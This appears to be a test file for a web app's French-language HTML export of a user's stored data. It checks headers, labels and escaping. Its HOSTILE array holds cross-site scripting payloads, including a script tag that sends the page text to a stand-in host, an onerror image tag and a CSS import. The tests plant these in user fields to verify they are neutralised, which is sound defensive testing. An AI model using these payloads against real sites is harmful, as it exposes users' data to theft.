import assert from 'node:assert/strict';
import { test } from 'node:test';
import { sql } from 'kysely';
import { FIELD_WORDS, LEFT_OUT } from '../users/export.labels.ts';
import { exportPage } from '../users/export.html.ts';
import { exportOf } from '../users/users.export.ts';
import { findUser } from '../users/users.store.ts';
import { buildCharacter, buildTicket } from '../test/builders.ts';
import { startServer } from '../test/server.ts';
import type { Client, TestServer } from '../test/server.ts';
import { seedDemo } from './demo.ts';

const HOSTILE = [
  '<script>fetch("https://voleur.test/"+document.body.innerText)</script>',
  '"><img src=x onerror=alert(1)>',
  '</style><style>@import "https://voleur.test/a.css";</style>',
  "javascript:alert('x')",
  '<!--', // An open comment would swallow what follows.
];

/** What every export is made of; the one style block aside. Anything else came from a text. */
const OURS =
  /^(\/?(html|head|title|body|main|h1|h2|p|ul|li|article|dl|dt|dd|nav|section|style)|!doctype html|html lang="fr"|meta (charset="utf-8"|http-equiv="Content-Security-Policy" content="[^"<>]*"|name="(viewport|referrer)" content="[\w=-]+") \/|nav aria-label="Sommaire"|a href="#\w+"|\/a|h2 id="\w+"|section aria-labelledby="\w+")$/;

/** The elements of a page that its own template does not make. */
const foreignElements = (page: string): string[] =>
  page
    .replace(/<style>[^<]*<\/style>/, '')
    .split('<')
    .slice(1)
    .map(piece => piece.split('>')[0] ?? '')
    .filter(element => !OURS.test(element));

const readPage = async (rpd: TestServer, client: Client) =>
  rpd.inject({
    url: '/hosts/api/user/me/export?format=html',
    headers: { authorization: client.authorization ?? '' },
  });

const make = async (client: Client, path: string, body: object) =>
  (await client.post<{ _id: string }>(path, body)).body._id;

test('a person reads in French what is stored of them, and no code of the machine (ACC-8)', async t => {
  const rpd = await startServer(t);
  const zoe = await rpd.signIn({ name: 'Zoé', email: 'zoe@rpd.test' });
  await make(zoe, '/character', buildCharacter({ name: 'Isaure' }));
  await make(zoe, '/ticket', buildTicket());
  const { headers, body } = await readPage(rpd, zoe);
  assert.match(String(headers['content-disposition']), /^attachment; filename="rpd-mes-donnees-.*\.html"$/);
  assert.match(String(headers['content-type']), /^text\/html/);
  for (const words of ['Vos personnages', 'Isaure', 'Adresse e-mail', 'zoe@rpd.test', 'Je ne retrouve plus'])
    assert.ok(body.includes(words), words);
  assert.match(body, /<dt>Créé le<\/dt>\s*<dd>\d\d\/\d\d\/\d{4}/);
  assert.match(body, /<dt>À<\/dt>\s*<dd>Zoé<\/dd>/, 'an identifier of one’s own is its name');
  assert.match(body, /Rien d’enregistré[^]*Vos serveurs/);
  assert.doesNotMatch(body, /argon2|passwordHash/);
  // Without a proof of who one is, a stolen token reads nothing (ACC-3); JSON stays what one gets by default.
  assert.equal((await zoe.get<{ account: { name: string } }>('/user/me/export')).body.account.name, 'Zoé');
});

test('nobody puts a script, a picture or an address into the export of somebody else (ACC-8)', async t => {
  const rpd = await startServer(t);
  const zoe = await rpd.signIn({ name: 'Zoé', bio: HOSTILE.join(' ') });
  const moderator = await rpd.signIn({ roles: ['MO'] });
  const ticket = await make(zoe, '/ticket', buildTicket());
  for (const text of HOSTILE) await moderator.post(`/ticket/${ticket}/messages`, { text });
  const { db } = rpd.store;
  // What an attacker's program calls itself, and what another site calls its account.
  await db
    .updateTable('sessions')
    .set({ device: HOSTILE.join('') })
    .where('user_id', '=', zoe.user._id)
    .execute();
  const at = new Date().toISOString();
  await db
    .insertInto('notifications')
    .values({
      id: 'n1',
      user_id: zoe.user._id,
      kind: 'account',
      title: HOSTILE.join(''),
      text: HOSTILE.join(''),
      to_path: HOSTILE[3] ?? '',
      is_read: 0,
      created_at: at,
      expires_at: at,
      about: '',
    })
    .execute();
  const { body } = await readPage(rpd, zoe);
  assert.ok(body.includes('voleur.test'), 'the texts are in it, as texts');
  assert.deepEqual(foreignElements(body), []);
  assert.match(body, /http-equiv="Content-Security-Policy" content="default-src &#39;none&#39;; style-src/);
});

test('names of fields cannot carry a script either', async t => {
  const rpd = await startServer(t);
  const zoe = await rpd.signIn();
  const user = await findUser(rpd.store.db, zoe.user._id);
  assert.ok(user);
  const data = await exportOf(rpd.store.db, user);
  // A template's designer names the fields of somebody's sheet.
  const character = {
    id: 'c',
    name: 'Isaure',
    entries: Object.fromEntries(HOSTILE.map(text => [text, [text, { [text]: text }]])),
  };
  const page = exportPage({ ...data, characters: [character] });
  assert.ok(page.includes('voleur.test'));
  assert.deepEqual(foreignElements(page), []);
});

test('every field of what the demonstration exports has a French word', async t => {
  const rpd = await startServer(t);
  await seedDemo(rpd.store);
  const { rows } = await sql<{ id: string }>`select id from users`.execute(rpd.store.db);
  const missing = new Set<string>();
  for (const { id } of rows) {
    const user = await findUser(rpd.store.db, id);
    if (!user || user.deletedAt) continue;
    const data = await exportOf(rpd.store.db, user);
    for (const found of Object.values(data)) {
      const [first] = Array.isArray(found) ? (found as object[]) : [];
      for (const field of Object.keys(first ?? {})) {
        if (!(field in FIELD_WORDS) && !LEFT_OUT.has(field) && field !== 'id') missing.add(field);
      }
    }
  }
  assert.deepEqual([...missing], []);
});
